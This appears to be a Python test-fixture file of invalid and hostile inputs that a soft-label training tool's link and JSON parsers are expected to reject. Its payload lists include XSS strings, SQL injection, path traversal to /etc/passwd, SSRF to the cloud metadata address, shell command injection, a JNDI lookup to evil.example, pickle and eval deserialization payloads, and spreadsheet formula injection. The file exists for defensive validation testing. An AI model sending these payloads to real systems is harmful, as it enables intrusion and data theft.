"""Links that mean harm: no two alike, each with something beside it that must open all the same."""

from typing import Any

from softlabel_core.training.train import Training

NUMBERS = [
    *(
        "",
        " ",
        "0",
        "-1",
        "65",
        "1.5",
        "1e3",
        "1e400",
        "-1e400",
        "1e-400",
        "0x10",
        "1,5",
        "5.",
        "- 1",
        "²",
        "٣",
    ),
    *(
        "５",
        "½",
        "Ⅷ",
        "nan",
        "NaN",
        "inf",
        "-inf",
        "Infinity",
        "true",
        "null",
        "None",
        "[]",
        "{}",
        "[1]",
        "1;2",
    ),
    *(
        "2147483648",
        "9" * 400,
        "9" * 5000,
        "1" + "0" * 50_000,
        "0." + "0" * 5000 + "1",
        "1__0",
        "1 2",
        "1\x002",
    ),
    *(
        "\u202e5",
        "5\u200b",
        "\ufeff5\ufeff",
        "1\u0301",
        "$((1+1))",
        "1/0",
        "9**9**9",
        "lambda: 0",
        "1-2",
        "@1",
    ),
]
"""Said of the number of replicates: none is a whole number from 1 to 64."""

TEXTS = [
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg/onload=alert(1)>',
        "javascript:alert(1)",
    ),
    *(
        "[x](javascript:alert(1))",
        "![x](http://evil.example/p)",
        "**b**",
        "`c`",
        "$\\href{http://e}{x}$",
        ":red[x]",
    ),
    *(
        "' OR 1=1 --",
        "'; DROP TABLE results; --",
        "1 UNION SELECT share FROM results",
        '" OR ""="',
        "%27%20OR%201=1",
    ),
    *(
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/proc/self/environ",
        "file:///etc/passwd",
        "\\\\evil\\share",
    ),
    *(
        "http://169.254.169.254/latest",
        "ftp://evil.example/x",
        "gopher://x",
        "data:text/html,<b>",
        "//evil.example",
    ),
    *(
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "${IFS}id",
        "%0aid",
        "\nid",
        "\r\nSet-Cookie: x=1",
        "id\x00.csv",
    ),
    *(
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "${jndi:ldap://evil.example/x}",
        "{0.__class__}",
        "%s%s%n",
        "%(x)s",
    ),
    *(
        "__import__('os').system('id')",
        "eval('1')",
        "!!python/object:os.system",
        "cos\nsystem\n(S'id'\ntR.",
        "O:1:",
    ),
    *(
        "=cmd|'/c calc'!A1",
        "+1+cmd",
        "@SUM(1)",
        "\x1b[2J",
        "\x07",
        "\x7f",
        "\u202eevil",
        "\u2066x\u2069",
        "a\u0300" * 500,
    ),
    *(
        "x" * 10_000,
        "𝕏" * 5000,
        "\U0010ffff",
        "\ufffe",
        "\ufffd",
        "İ",
        "ß" * 300,
        "\u2028",
        "\u0000",
        "{",
        "}",
        "{}",
    ),
    *(
        '{"kind": "moons"}',
        "[object Object]",
        "undefined",
        "constructor",
        "__proto__",
        "__class__",
        "kind",
        "NaN",
    ),
]
"""Said of the kind of the dataset: none is one."""

NAMES = [
    *(
        "bias.__class__",
        "bias.__init__.__globals__",
        "bias.__dict__",
        "bias.model_config",
        "bias.model_fields",
    ),
    *(
        "bias.replace",
        "bias.parse",
        "bias.family",
        "bias.science",
        "bias.later",
        "bias.needs_files",
        "bias.present",
    ),
    *(
        "bias.kind.kind",
        "bias.rank.rank",
        "bias.rank.__class__",
        "bias.",
        "bias..",
        "bias..rank",
        "bias. rank",
        "bias.RANK",
    ),
    *(
        "training.",
        "training.training",
        "training.epochs.epochs",
        "training.__proto__.x",
        "training.constructor",
    ),
    *(
        "dataset.dataset",
        "dataset.path",
        "dataset.url",
        "dataset.__reduce__",
        "framework.loss.loss",
        "framework.k.k",
    ),
    *(
        "framework.loss.__class__.__mro__",
        "seed.seed",
        "seed.",
        "seed.real",
        "replicates.real",
        "replicates.__add__",
    ),
    *(
        "student.width.width",
        "student.forward",
        "student.<script>",
        "student.${7*7}",
        "student.{0}",
        "student.%s",
    ),
    *("bias." + "x" * 10_000, "bias" + ".rank" * 100, "framework" + ".loss" * 5000, "dataset" + "." * 10_000),
]
"""Parameters that no experiment has."""

KINDS = [
    {"bias": "demotion", "bias.rank": "11"},
    {"bias": "demotion", "bias.rank": "support"},
    {"bias": "demotion", "bias.file": "x.csv"},
    {"bias": "one-hot", "bias.rank": "1"},
    {"bias": "Demotion"},
    {"bias": "demotion "},
    {"bias": "mlp"},
    {"bias": "softlabel_core.biases.demotion"},
    {"bias": "human-annotators", "bias.file": "../secret.csv"},
    {"bias": "human-annotators", "bias.file": "a.csv\x00.parquet"},
    {"bias": "human-annotators", "bias.file": "x" * 5000 + ".csv"},
    {"bias": "rival-matrix", "bias.matrix": "[[1]]"},
    {"dataset": "uploaded", "dataset.file": "/etc/passwd"},
    {"dataset": "uploaded", "dataset.file": "~root/.npz"},
    {"dataset": "gaussian-ring", "dataset.ring_classes": "1000000000"},
    {"dataset": "gaussian-ring", "dataset.ring_classes": "-3"},
    {"dataset": "digits", "dataset.train_size": "1000000000000"},
    {"dataset": "digits", "dataset.test_fraction": "1"},
    {"dataset": "moons", "framework.k": "3"},
    {"dataset": "moons", "student": "cnn"},
    {"framework": "partial-labels", "framework.loss": "cross-entropy"},
    {"framework": "soft-labels", "framework.k": "2"},
    {"framework": "framework"},
    {"framework.loss": "loss"},
    {"student": "mlp", "student.width": "100000000"},
    {"student": "module"},
    {"v": "2"},
    {"v": ""},
    {"v": "1.0"},
    {"v": "<script>"},
    {f"bias.x{number}": "1" for number in range(1000)},
    {f"{part}.{name}": "1" for part in ("bias", "student", "training") for name in "abcdefghij"},
]
"""What does not go together, or is too much of it."""

FIELDS = [{f"training.{name}": said} for name in Training.model_fields for said in ("evil", "-1", "1e99")]
"""Every field of the training with what it cannot be."""

LINKS = [
    *({"replicates": said} for said in NUMBERS),
    *({"dataset": said} for said in TEXTS),
    *({name: "1"} for name in NAMES),
    *KINDS,
    *FIELDS,
]


def _nested(depth: int) -> list[Any]:
    found: list[Any] = []
    for _ in range(depth):
        found = [found]
    return found


WORDS = [
    *({"replicates": said} for said in (None, 1.5, float("nan"), float("inf"), -1, 10**4000, [8], {"a": 1})),
    *({"seed": said} for said in (-1, 2**31, 2**63, -0.5, "x", [], {})),
    *({"dataset": said} for said in (1, None, [], {"kind": None}, {"kind": ["digits"]}, {"kind": {}})),
    *(
        {"bias": {"kind": "demotion", "rank": said}}
        for said in ([3], {"kind": 3}, None, _nested(50), "x" * 10**6)
    ),
    *({"bias": {"kind": "demotion", name: 1}} for name in ("__class__", "model_config", "\ud800", "\0", "")),
    *({"training": said} for said in ("adam", 1, [], {"optimizer": []}, {"epochs": {}}, {"__proto__": {}})),
    *({name: 1} for name in ("__class__", "__dict__", "model_config", "kind", "replicate", "", "\ud800")),
    *(None, 1, [], [{}], "digits", _nested(50)),
]
"""JSON said to the core directly, by a file or a body, where no link does."""
